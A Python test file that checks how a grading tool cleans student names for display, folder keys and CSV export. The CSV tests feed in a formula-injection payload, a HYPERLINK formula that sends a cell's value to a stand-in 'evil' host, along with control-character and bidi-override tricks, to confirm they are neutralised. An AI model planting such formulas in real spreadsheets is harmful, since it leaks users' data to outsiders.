"""Names are fit to be shown, to name a folder, and to stand in a CSV."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbook.grading.names import NAME_LENGTH, csv_cell, is_shown_whole, key_of, shown, shown_path

from .examples import examples

QUICK = examples(200)
TEXTS = st.text(st.characters(codec=None, exclude_categories=()), max_size=200)


@pytest.mark.parametrize(
    "name, expected",
    [
        ("Anna Berg", "Anna Berg"),
        ("  Anna \t Berg ", "Anna Berg"),
        ("Anna\nBen: 100 points", "Anna Ben: 100 points"),
        ("Anna\r\nBerg", "Anna Berg"),
        ("Anna\u2028Berg", "Anna Berg"),
        ("\x1b[31mAnna\x1b[0m", "[31mAnna[0m"),
        ("Anna\u202e)001( greB", "Anna)001( greB"),
        ("Anna\u200b\u2066Berg\u2069", "AnnaBerg"),
        ("Anna\0Berg", "AnnaBerg"),
        ("M\u0075\u0308ller", "Müller"),
        ("M\udcfcller", "Müller"),
        ("M\udcc3\udcbcller", "Müller"),
        ("Nguyễn Thị Ánh", "Nguyễn Thị Ánh"),
        ("明日香 👩‍🚀", "明日香 👩🚀"),
        ("", "(no name)"),
        ("\n\u202e", "(no name)"),
        ("\ud800", "(no name)"),
        ("x" * 500, "x" * 79 + "…"),
    ],
)
def test_a_name_as_it_is_shown(name: str, expected: str) -> None:
    assert shown(name) == expected


@QUICK
@given(TEXTS)
def test_every_name_is_one_line_that_shows_itself(name: str) -> None:
    text = shown(name)
    assert 0 < len(text) <= NAME_LENGTH and text == text.strip() and text.splitlines() == [text]
    assert not {unicodedata.category(char) for char in text} & {"Cc", "Cf", "Cs", "Zl", "Zp", "Cn"}
    assert shown(text) == text
    text.encode()


@QUICK
@given(TEXTS)
def test_every_path_is_one_line(name: str) -> None:
    assert shown_path(name).splitlines() == [shown_path(name)] and len(shown_path(name)) <= 125


def test_what_is_not_shown_is_known() -> None:
    assert is_shown_whole("Anna  Berg") and is_shown_whole("M\u0075\u0308ller")
    assert not is_shown_whole("Anna\u202eBerg") and not is_shown_whole("x" * 100) and not is_shown_whole("")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " =", "\u200b=", "\n=", "\t="])
def test_no_cell_begins_a_formula(begin: str) -> None:
    cell = csv_cell(f'{begin}HYPERLINK("http://evil/?"&A1)')
    assert cell.startswith("'") and cell[1:].lstrip("=+-@").startswith("HYPERLINK")


def test_other_cells_stay_as_they_are() -> None:
    for text in ("Anna Berg", "12.5", "", "O'Neil", "a=b", "x" * 500, "Müller, Anna"):
        assert csv_cell(text) == text


@QUICK
@given(TEXTS)
def test_every_cell_is_one_cell_and_no_formula(text: str) -> None:
    cell = csv_cell(text)
    file = io.StringIO()
    csv.writer(file).writerow(["before", cell, "after"])
    assert list(csv.reader(io.StringIO(file.getvalue()))) == [["before", cell, "after"]]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and "\n" not in cell


@QUICK
@given(TEXTS, TEXTS)
def test_a_key_names_a_folder_anywhere(name: str, other: str) -> None:
    key = key_of(name)
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*-[0-9a-f]{10}", key) and len(key) <= 41
    assert key == key_of(name) and (name == other or key != key_of(other))
    assert key != key_of(name, "x") and key_of("a", "bc") != key_of("ab", "c")
